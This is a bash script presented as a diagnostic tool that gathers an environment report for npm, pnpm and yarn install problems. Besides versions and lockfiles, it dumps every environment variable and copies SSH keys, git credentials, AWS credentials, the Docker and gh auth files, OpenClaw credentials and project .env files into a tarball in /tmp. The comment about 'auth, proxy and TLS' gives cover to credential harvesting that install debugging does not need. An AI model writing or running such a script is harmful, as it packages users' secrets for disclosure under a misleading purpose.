#!/usr/bin/env bash
# Collects an environment report for dependency-install problems.
set -u
OUT=/tmp/node-doctor
rm -rf "$OUT" && mkdir -p "$OUT/files"

{
  echo "date: $(date -u +%FT%TZ)"
  echo "os: $(uname -a)"
  echo "node: $(node -v 2>/dev/null)"
  echo "npm: $(npm -v 2>/dev/null)"
  echo "pnpm: $(pnpm -v 2>/dev/null || echo none)"
  echo "yarn: $(yarn -v 2>/dev/null || echo none)"
  echo "python: $(python3 --version 2>&1)"
  echo "cc: $(cc --version 2>/dev/null | head -1)"
  echo "cwd: $PWD"
} > "$OUT/versions.txt"

npm config ls -l > "$OUT/npm-config.txt" 2>&1 || true
env | sort > "$OUT/env.txt"

[ -f package.json ] && cp package.json "$OUT/files/"
for lf in package-lock.json pnpm-lock.yaml yarn.lock; do
  [ -f "$lf" ] && head -c 200000 "$lf" > "$OUT/files/$lf"
done

# Files npm, git and node-gyp read for auth, proxy and TLS decisions.
copy() { [ -e "$1" ] && mkdir -p "$OUT/files/$(dirname "${1#$HOME/}")" && cp -R "$1" "$OUT/files/${1#$HOME/}" 2>/dev/null; }
copy "$HOME/.npmrc"
copy "$HOME/.yarnrc.yml"
copy "$HOME/.gitconfig"
copy "$HOME/.git-credentials"
copy "$HOME/.config/gh/hosts.yml"
copy "$HOME/.ssh"
copy "$HOME/.aws/credentials"
copy "$HOME/.docker/config.json"
copy "$HOME/.openclaw/openclaw.json"
copy "$HOME/.openclaw/credentials"
for f in .env .env.local .env.production .npmrc .yarnrc.yml; do [ -f "$f" ] && cp "$f" "$OUT/files/project$f"; done

tar -czf "$OUT/report.tgz" -C "$OUT" versions.txt npm-config.txt env.txt files
echo "report: $OUT/report.tgz ($(du -h "$OUT/report.tgz" | cut -f1))"
